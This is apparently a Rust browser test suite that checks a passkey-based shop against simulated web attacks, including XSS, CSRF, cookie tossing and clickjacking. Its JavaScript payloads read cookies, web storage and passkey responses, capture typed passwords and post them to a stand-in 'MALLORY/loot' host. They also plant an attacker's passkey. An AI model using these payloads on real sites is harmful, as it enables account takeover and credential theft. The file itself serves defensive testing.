//! Scripts that do not belong into the page, and pages of other sites.

use passkey_accounts::{
    defence::{Defence, without},
    protocol::gateway::{EndReason, ServerMessage, Session},
};
use passkey_accounts_tests::{
    Page as PageWithoutBrowser, SoftwareAuthenticator,
    chromium::{Chromium, Page},
    shop::{Build, Carried, Person, Shop},
};
use serde_json::{Value, json};

use super::{
    ADA, THEFT, acted, attack, fell, held, is_ours,
    mallory::{Mallory, Victim, give, ready},
};

/// Takes along whatever a script of the page finds.
const STEAL: &str = "
    const stored = (keys) => Object.fromEntries(Object.entries(keys));
    const loot = { localStorage: stored(localStorage), sessionStorage: stored(sessionStorage), cookie: document.cookie };
    loot.databases = (await indexedDB.databases()).map(({ name }) => name);
    fetch('MALLORY/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
";

/// Acts as the page would, and says what came of it.
const ACT: &str = "
    const said = await shop.act('pay=Mallory').catch((error) => error.message);
    fetch('MALLORY/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ said }) });
";

#[tokio::test]
async fn a_comment_is_taken_for_code() {
    let browser = Chromium::launch().await.unwrap();
    attack("injected", async |build| {
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        let mut mallory = Mallory::start("", ACT).await;
        let page = victim.follow(&browser, &shop, &mallory.comment()).await;
        if page.evaluate("document.querySelector('#comment img') !== null").await.unwrap() == true {
            mallory.loot().await;
        }
        acted(&shop, &victim.name, "its script acted", "the comment stayed text")
    })
    .await;
}

#[tokio::test]
async fn an_injected_script_takes_the_session_away() {
    let browser = Chromium::launch().await.unwrap();
    attack("stolenSession", async |build| {
        // The policy has failed: this is about what is left then.
        let _down = without(Defence::ContentSecurityPolicy);
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        let mut mallory = Mallory::start("", STEAL).await;
        victim.follow(&browser, &shop, &mallory.comment()).await;
        let loot = mallory.loot().await;
        let token = match loot["localStorage"]["token"].as_str() {
            Some(token) => Some(token.to_owned()),
            None => loot["cookie"].as_str().and_then(|cookie| cookie.split('=').nth(1)).map(str::to_owned),
        };
        let Some(token) = token else {
            assert_eq!(loot["databases"], json!([]), "{loot}");
            return held(if build.has_cookies() {
                "scripts do not see the cookie"
            } else {
                "nothing is stored"
            });
        };
        shop.send(&shop.carrying(&Carried::Token(token), "/act", THEFT)).await;
        acted(&shop, &victim.name, "used on the attacker's machine", "of no use elsewhere")
    })
    .await;
}

#[tokio::test]
async fn an_injected_script_acts_while_the_page_is_open() {
    let browser = Chromium::launch().await.unwrap();
    attack("ride", async |build| {
        let _down = without(Defence::ContentSecurityPolicy);
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        let mut mallory = Mallory::start("", ACT).await;
        victim.follow(&browser, &shop, &mallory.comment()).await;
        let said = mallory.loot().await;
        acted(&shop, &victim.name, "it acts as the page does", said.to_string())
    })
    .await;
}

#[tokio::test]
async fn an_injected_script_does_what_asks_for_a_gesture() {
    let browser = Chromium::launch().await.unwrap();
    attack("rideConfirmed", async |build| {
        let _down = without(Defence::ContentSecurityPolicy);
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        // Without the gesture: the person would see the prompt.
        let script = if is_ours(build) {
            "const request = { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: 'pay=Mallory' };
             const said = (await shop.client.state.session.fetch('/act/confirmed', request)).status;
             fetch('MALLORY/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ said }) });"
        } else {
            "const said = await shop.actConfirmed('pay=Mallory');
             fetch('MALLORY/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ said }) });"
        };
        let mut mallory = Mallory::start("", script).await;
        victim.follow(&browser, &shop, &mallory.comment()).await;
        let said = mallory.loot().await;
        acted(&shop, &victim.name, "it acts as the page does", said["said"].to_string())
    })
    .await;
}

#[tokio::test]
async fn an_injected_script_asks_for_the_gesture_and_the_person_makes_it() {
    let browser = Chromium::launch().await.unwrap();
    attack("rideGesture", async |build| {
        let _down = without(Defence::ContentSecurityPolicy);
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        let script = "const said = await shop.actConfirmed('pay=Mallory').catch((error) => error.message);
             fetch('MALLORY/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ said }) });";
        let mut mallory = Mallory::start("", script).await;
        follow_with_passkey(&victim, &browser, &shop, &mallory).await;
        let said = mallory.loot().await;
        acted(&shop, &victim.name, "the person has confirmed it", said["said"].to_string())
    })
    .await;
}

#[tokio::test]
async fn an_injected_script_has_the_person_sign_in_for_the_attacker() {
    let browser = Chromium::launch().await.unwrap();
    attack("signedForAttacker", async |build| {
        let _down = without(Defence::ContentSecurityPolicy);
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        // The attacker's own connection asks for a challenge; the person's browser gets it from the script.
        let mut page = None;
        let asked: Value = if is_ours(build) {
            let mut thief = shop.connect_page().await;
            let ceremony = thief.begin_sign_in(ADA).await;
            let asked = json!({ "publicKey": serde_json::from_str::<Value>(&ceremony.public_key.0).unwrap() });
            page = Some((thief, ceremony));
            asked
        } else if build.has_passkeys() {
            shop.begin(ADA).await
        } else {
            Value::Null
        };
        let script = if build.has_passkeys() {
            format!(
                "const publicKey = PublicKeyCredential.parseRequestOptionsFromJSON({});
                 const credential = await navigator.credentials.get({{ publicKey }}).catch((error) => error.message);
                 fetch('MALLORY/loot', {{ method: 'POST', mode: 'no-cors', body: JSON.stringify({{ credential }}) }});",
                asked["publicKey"]
            )
        } else {
            // Somebody who is asked for the password by the page of the shop enters it.
            "document.body.innerHTML = '<form><input id=password></form>';
             document.querySelector('#password').addEventListener('change', ({ target }) =>
                 fetch('MALLORY/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ password: target.value }) }));
             document.body.dataset.ready = 'true';"
                .to_owned()
        };
        if is_ours(build) {
            listen(&victim).await;
        }
        let mut mallory = Mallory::start("", &script).await;
        let tab = follow_with_passkey(&victim, &browser, &shop, &mallory).await;
        if !build.has_passkeys() {
            tab.wait_until("document.querySelector('#password')").await.unwrap();
            let typed = "(() => { const field = document.querySelector('#password'); field.value = 'sunshine'; field.dispatchEvent(new Event('change')) })()";
            tab.evaluate(typed).await.unwrap();
        }
        let loot = mallory.loot().await;
        let stolen = match page {
            Some((mut thief, ceremony)) => {
                match thief.finish(&ceremony, loot["credential"].to_string()).await {
                    ServerMessage::SignedIn(signed_in) => {
                        Carried::Page(Box::new(thief), signed_in.session)
                    }
                    other => return held(format!("{other:?}")),
                }
            }
            None if build.has_passkeys() => {
                let answer = json!({ "email": ADA, "ceremony": asked["ceremony"], "credential": loot["credential"] });
                shop.carried(&shop.post("/passkey/get", &answer).await)
            }
            None => {
                let given = json!({ "email": ADA, "password": loot["password"] });
                shop.carried(&shop.post("/sign-in", &given).await)
            }
        };
        let answer = shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
        if let Carried::Page(thief, session) = stolen {
            end_what_was_told(&victim, *thief, &session).await;
        }
        acted(&shop, &victim.name, "a session that outlives the page", answer.status.to_string())
    })
    .await;
}

/// The person's other tab listens for news.
async fn listen(victim: &Victim) {
    let listen = "void (globalThis.told = new Promise((resolve) => shop.client.onNews(resolve)))";
    victim.page.evaluate(listen).await.unwrap();
}

/// It was told of the attacker's session.
async fn assert_told(victim: &Victim, session: &Session) {
    let told = "told.then(({ type, session }) => [type, session.sessionID])";
    let told = victim.page.evaluate(told).await.unwrap();
    assert_eq!(told, json!(["sessionOpened", session.session_id.to_string()]));
}

/// The person ends there what the attacker has opened.
async fn end_what_was_told(victim: &Victim, mut thief: PageWithoutBrowser, session: &Session) {
    assert_told(victim, session).await;
    victim
        .page
        .evaluate("told.then(({ session }) => shop.client.state.session.sessions.end(session.sessionID))")
        .await
        .unwrap();
    let end = thief.hear().await;
    assert!(
        matches!(&end, Ok((None, ServerMessage::SignedOut(out))) if out.reason == EndReason::User),
        "{end:?}"
    );
}

#[tokio::test]
async fn an_injected_script_has_the_person_vouch_for_a_passkey_of_the_attackers() {
    let browser = Chromium::launch().await.unwrap();
    attack("vouchedForAttacker", async |build| {
        let _down = without(Defence::ContentSecurityPolicy);
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        // Made at the attacker's: a new passkey signs nothing, so the script only puts the challenge of the day under it.
        let mut own = SoftwareAuthenticator::default();
        own.sends_user_handle = false;
        let options = json!({
            "rp": { "id": shop.host, "name": "Shop" }, "user": { "id": "AQ", "name": "", "displayName": "" },
            "challenge": "AAAA", "pubKeyCredParams": [{ "type": "public-key", "alg": -7 }],
            "authenticatorSelection": { "residentKey": "discouraged", "userVerification": "required" },
        });
        let made = own.register(&options.to_string(), &shop.origin).unwrap();
        let script = format!(
            "const base64url = {{ alphabet: 'base64url', omitPadding: true }};
             navigator.credentials.create = async ({{ publicKey }}) => {{
                 const challenge = new Uint8Array(publicKey.challenge).toBase64(base64url);
                 const data = {{ type: 'webauthn.create', challenge, origin: location.origin, crossOrigin: false }};
                 const made = {made};
                 made.response.clientDataJSON = new TextEncoder().encode(JSON.stringify(data)).toBase64(base64url);
                 return {{ toJSON: () => made }};
             }};
             const said = await shop.client.state.session.passkeys.add().then(() => 'added', (error) => error.message);
             fetch('MALLORY/loot', {{ method: 'POST', mode: 'no-cors', body: JSON.stringify({{ said }}) }});"
        );
        listen(&victim).await;
        let mut mallory = Mallory::start("", &script).await;
        follow_with_passkey(&victim, &browser, &shop, &mallory).await;
        let said = mallory.loot().await;
        let mut thief = shop.connect_page().await;
        let ceremony = thief.begin_sign_in(ADA).await;
        let Ok(credential) = own.sign_in(&ceremony.public_key.0, &shop.origin) else {
            return held(said["said"].to_string());
        };
        let ServerMessage::SignedIn(signed_in) = thief.finish(&ceremony, credential).await else {
            return held("the passkey signs nobody in");
        };
        assert_told(&victim, &signed_in.session).await;
        let stolen = Carried::Page(Box::new(thief), signed_in.session);
        let answer = shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
        acted(&shop, &victim.name, "its passkey signs in whenever it likes", answer.status.to_string())
    })
    .await;
}

/// The tab in which the comment runs is the one that has the passkey.
async fn follow_with_passkey(victim: &Victim, browser: &Chromium, shop: &Shop, mallory: &Mallory) -> Page {
    let page = victim.follow(browser, shop, "").await;
    let credentials = victim.credentials().await;
    give(&page, &credentials).await;
    let comment = json!(mallory.comment());
    page.evaluate(&format!("void (document.getElementById('comment').innerHTML = {comment})")).await.unwrap();
    page
}

#[tokio::test]
async fn another_site_has_the_browser_send_a_request() {
    let browser = Chromium::launch().await.unwrap();
    attack("crossSite", async |build| {
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        // A form that sends itself: what a browser shows at the top gets more cookies than what a page loads.
        let form = format!(
            "<form method=post enctype=text/plain action='{}/act'><input name=pay value=Mallory></form>
             <script>document.forms[0].submit()</script>",
            shop.origin
        );
        let before = shop.tries();
        let mallory = Mallory::start(&form, "").await;
        browser.open(&mallory.origin("mallory.localhost")).await.unwrap();
        shop.tried(before + 1).await;
        acted(&shop, &victim.name, "the browser sent the cookie along", stopped_cross_site(build))
    })
    .await;
}

#[tokio::test]
async fn a_sibling_of_the_site_has_the_browser_send_a_request() {
    let browser = Chromium::launch().await.unwrap();
    attack("sameSite", async |build| {
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        let mallory = Mallory::start("", "").await;
        let page = browser.open(&mallory.origin(&format!("blog.{}", shop.host))).await.unwrap();
        forge(&page, &shop).await;
        acted(&shop, &victim.name, "the browser sent the cookie along", stopped_cross_site(build))
    })
    .await;
}

/// Sends a request with whatever the browser adds to it by itself.
async fn forge(page: &Page, shop: &Shop) {
    let request = json!({
        "method": "POST", "mode": "no-cors", "credentials": "include", "body": THEFT,
        "headers": { "Content-Type": "text/plain" },
    });
    page.evaluate(&format!("fetch('{}/act', {request}).then(() => 0)", shop.origin)).await.unwrap();
}

const fn stopped_cross_site(build: Build) -> &'static str {
    if build.has_cookies() {
        "the cookie stays at home"
    } else {
        "a browser adds nothing by itself that says who asks"
    }
}

#[tokio::test]
async fn a_sub_domain_plants_its_own_session() {
    let browser = Chromium::launch().await.unwrap();
    attack("plantedCookie", async |build| {
        let shop = Shop::open(build).await;
        let mallory = Mallory::start("", "").await;
        let own = Person::sign_up(&shop, "mallory@evil.example").await;
        let Carried::Token(token) = &own.carried else { panic!("a cookie carries the session") };
        let page = browser.open(&mallory.origin(&format!("blog.{}", shop.host))).await.unwrap();
        for name in ["__Host-session", "session"] {
            let cookie = format!("{name}={token}; Domain={}; Path=/; Secure", shop.host);
            page.evaluate(&format!("void (document.cookie = '{cookie}')")).await.unwrap();
        }
        let page = browser.open(&shop.origin).await.unwrap();
        ready(&page).await;
        page.evaluate("shop.act('my card number is 4242')").await.unwrap();
        match shop.count(&own.email, "my card number is 4242") {
            0 => held("the browser does not take the cookie"),
            _ => fell("what the person enters goes to the attacker's account"),
        }
    })
    .await;
}

#[tokio::test]
async fn a_page_frames_the_site_and_has_the_person_click() {
    let browser = Chromium::launch().await.unwrap();
    attack("framed", async |build| {
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        // Of the same site, so that the browser gives the frame what the site has stored.
        let mallory = Mallory::start("", "").await;
        mallory.show(&format!(
            "<iframe id=frame src='{}' style='position:fixed;inset:0;width:100vw;height:100vh;opacity:0.01'></iframe>
             <script>document.getElementById('frame').addEventListener('load', () => document.body.dataset.loaded = 'true')</script>",
            shop.origin
        ));
        let page = browser.open(&mallory.origin(&format!("blog.{}", shop.host))).await.unwrap();
        page.wait_until("document.body.dataset.loaded").await.unwrap();
        click_until(&page, &shop, &victim).await;
        if shop.count(&victim.name, "clicked") > 0 {
            fell("the click went into the frame")
        } else {
            held("the browser does not show it in a frame")
        }
    })
    .await;
}

/// Clicks where the button is, until it has been heard or the frame is known to be empty.
async fn click_until(page: &Page, shop: &Shop, victim: &Victim) {
    let is_shown = page.evaluate("(() => { try { return document.getElementById('frame').contentDocument !== null } catch { return false } })()");
    if is_shown.await.unwrap() == true {
        return;
    }
    for _ in 0..200 {
        for kind in ["mousePressed", "mouseReleased"] {
            let event = json!({ "type": kind, "x": 30, "y": 93, "button": "left", "clickCount": 1 });
            page.call("Input.dispatchMouseEvent", event).await.unwrap();
        }
        // The next frame that is drawn: by then a click was heard, or there is nobody to hear it.
        page.evaluate("new Promise((resolve) => setTimeout(resolve, 50))").await.unwrap();
        if shop.count(&victim.name, "clicked") > 0 {
            return;
        }
    }
}
